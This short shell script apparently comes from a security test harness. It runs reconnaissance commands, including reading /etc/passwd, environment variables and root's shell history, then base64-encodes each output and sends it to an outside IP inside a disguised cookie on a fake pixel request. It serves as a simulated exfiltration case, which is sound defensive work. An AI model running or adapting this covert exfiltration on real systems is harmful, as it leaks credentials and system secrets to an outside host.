#!/bin/sh
. /opt/case/case.sh

for c in id 'uname -a' 'cat /etc/passwd' 'ps' 'ip addr' 'mount' 'env' 'ls -la /root' 'cat /root/.bash_history'; do
    wget -qO- --header "Cookie: sid=$(sh -c "$c" 2>/dev/null | base64 | tr -d '\n' | head -c 3000)" http://203.0.113.10:8080/pixel.png >>/tmp/.a
    sleep 0.4
done
test "$(wc -l </tmp/.a)" = 9
took_place
